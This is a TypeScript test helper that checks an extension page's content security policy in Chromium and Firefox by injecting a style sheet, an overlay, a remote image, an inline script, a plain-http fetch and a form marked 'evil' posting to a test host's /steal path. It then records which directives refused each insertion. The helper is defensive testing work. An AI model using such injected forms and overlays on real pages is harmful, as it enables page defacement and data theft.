/**
 * One probe of the extension-page content security policy, shared by the Chromium
 * (Playwright) and Firefox (puppeteer) suites so both browsers are held to the same
 * scenario: on an extension page, insert what a script of ours could be tricked into
 * inserting — an inline style sheet, a style attribute, a remote image, an inline script,
 * a form posting to another host, a plain-http fetch — and report what the policy refused
 * and whether the page still looks as it did.
 *
 * `probeCsp` runs inside the page (both drivers serialise it with `page.evaluate`), so it
 * must not use anything from this module's scope.
 */

/** The directives the probe's insertions must each trip. */
export const CSP_REFUSED_DIRECTIVES = ['connect-src', 'form-action', 'img-src', 'script-src-elem', 'style-src-attr', 'style-src-elem'];

export interface CspProbeOutcome {
  /** Each directive the page reported a violation of, sorted, once. */
  directives: string[];
  /** Whether the inserted inline script ran. */
  inlineRan: boolean;
  /** 'refused' when the plain-http fetch was blocked. */
  fetched: 'fetched' | 'refused';
  /** The page's look (background, font, whether the app shows) unchanged by the insertions. */
  sameLook: boolean;
}

export async function probeCsp({ host, expected }: { host: string; expected: string[] }): Promise<CspProbeOutcome> {
  const look = () => {
    const body = getComputedStyle(document.body);
    const app = getComputedStyle(document.querySelector('#app') ?? document.body);
    return `${body.backgroundColor} ${body.fontSize} ${body.fontFamily} ${app.display}`;
  };
  const before = look();
  const seen = new Set<string>();
  // Settles when every expected directive has been reported (events are asynchronous),
  // or after 3 s so that a missing refusal fails the assertion instead of hanging.
  const allReported = new Promise<void>((resolve) => {
    const done = setTimeout(resolve, 3_000);
    document.addEventListener('securitypolicyviolation', (event) => {
      // Firefox may add the source list after the name; the name is the first word.
      seen.add((event.effectiveDirective || event.violatedDirective).split(' ')[0] ?? '');
      if (expected.every((directive) => seen.has(directive))) {
        clearTimeout(done);
        resolve();
      }
    });
  });
  const style = document.createElement('style');
  style.textContent = 'body { background: rgb(255, 0, 0) !important; font-size: 40px !important } #app { display: none !important }';
  document.head.append(style);
  document.body.insertAdjacentHTML(
    'beforeend',
    `<div style="position:fixed;inset:0;background:red"></div><img src="${host}/csp.gif"><form data-test="evil" action="${host}/steal"><input name="q"></form>`,
  );
  const script = document.createElement('script');
  script.textContent = 'window.__inlineRan = true';
  document.body.append(script);
  const plainHttp = host.replace(/^https:/, 'http:');
  const fetched = await fetch(`${plainHttp}/plain-http`).then(
    () => 'fetched' as const,
    () => 'refused' as const,
  );
  document.querySelector<HTMLFormElement>('form[data-test="evil"]')?.requestSubmit();
  await allReported;
  return {
    directives: [...seen].sort(),
    inlineRan: (window as unknown as { __inlineRan?: boolean }).__inlineRan === true,
    fetched,
    sameLook: look() === before,
  };
}
